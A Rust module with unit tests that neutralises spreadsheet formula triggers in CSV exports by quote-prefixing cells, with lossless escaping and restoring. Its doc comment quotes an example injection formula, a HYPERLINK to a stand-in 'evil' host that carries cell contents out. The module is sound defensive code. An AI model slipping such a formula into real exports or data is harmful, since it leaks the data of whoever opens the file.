//! Formula-safe cells (OWASP "CSV injection").
//!
//! Spreadsheet programs treat a cell that starts with `=`, `+`, `-`, `@`, a
//! tab or a carriage return as a formula; a display name such as
//! `=HYPERLINK("http://evil/?"&A1)` in an export would run when an admin opens
//! the file. Every cell we write goes through [`neutralise`], which prefixes
//! such a cell with a single quote `'` (the spreadsheet convention for "this is
//! text").
//!
//! The prefix must not lose data: a name that really starts with `'` would be
//! indistinguishable from a neutralised one. So a leading `'` is escaped the
//! same way (`'x` is written `''x`), and [`restore`] strips exactly one leading
//! quote from any cell that starts with one. Export → import therefore returns
//! every value unchanged, whatever it starts with.
//!
//! Besides the ASCII triggers named by OWASP we also neutralise a leading line
//! feed and the full-width forms `＝ ＋ － ＠` (U+FF1D, U+FF0B, U+FF0D,
//! U+FF20), which some spreadsheet programs normalise to their ASCII twins.

/// The quote that marks a cell as text.
pub const TEXT_MARK: u8 = b'\'';

/// True when a spreadsheet program could read `cell` as a formula.
pub fn starts_formula(cell: &[u8]) -> bool {
    match cell {
        [b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\n', ..] => true,
        // U+FF1D ＝, U+FF0B ＋, U+FF0D －, U+FF20 ＠ in UTF-8.
        [0xEF, 0xBC, 0x9D | 0x8B | 0x8D, ..] | [0xEF, 0xBC, 0xA0, ..] => true,
        _ => false,
    }
}

/// True when [`neutralise`] must prefix `cell` with [`TEXT_MARK`].
pub fn needs_mark(cell: &[u8]) -> bool {
    cell.first() == Some(&TEXT_MARK) || starts_formula(cell)
}

/// The cell as it must be written: unchanged, or prefixed with `'` when it
/// could start a formula or already starts with `'`. `scratch` is reused so
/// writing a file allocates nothing per cell.
pub fn neutralise<'a>(cell: &'a [u8], scratch: &'a mut Vec<u8>) -> &'a [u8] {
    if needs_mark(cell) {
        scratch.clear();
        scratch.push(TEXT_MARK);
        scratch.extend_from_slice(cell);
        scratch.as_slice()
    } else {
        cell
    }
}

/// The value a neutralised cell stands for: one leading `'` removed.
pub fn restore(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// A CSV writer for an export: the byte-order mark first when `bom` (for
/// spreadsheet programs), CRLF line ends as RFC 4180 writes them.
pub(crate) fn export_writer<W: std::io::Write>(
    mut out: W,
    bom: bool,
) -> std::io::Result<csv::Writer<W>> {
    if bom {
        out.write_all(crate::table::BOM)?;
    }
    Ok(csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_triggers_are_marked() {
        let mut scratch = Vec::new();
        for cell in [
            "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1", "＠x",
        ] {
            let out = neutralise(cell.as_bytes(), &mut scratch).to_vec();
            assert_eq!(out[0], b'\'', "{cell:?}");
            assert_eq!(restore(std::str::from_utf8(&out).unwrap()), cell);
        }
    }

    #[test]
    fn plain_cells_are_untouched_and_quotes_escape() {
        let mut scratch = Vec::new();
        assert_eq!(neutralise(b"alice", &mut scratch), b"alice");
        assert_eq!(neutralise(b"", &mut scratch), b"");
        assert_eq!(neutralise(b"'quoted", &mut scratch), b"''quoted");
        assert_eq!(restore("''quoted"), "'quoted");
        assert_eq!(restore("plain"), "plain");
    }
}
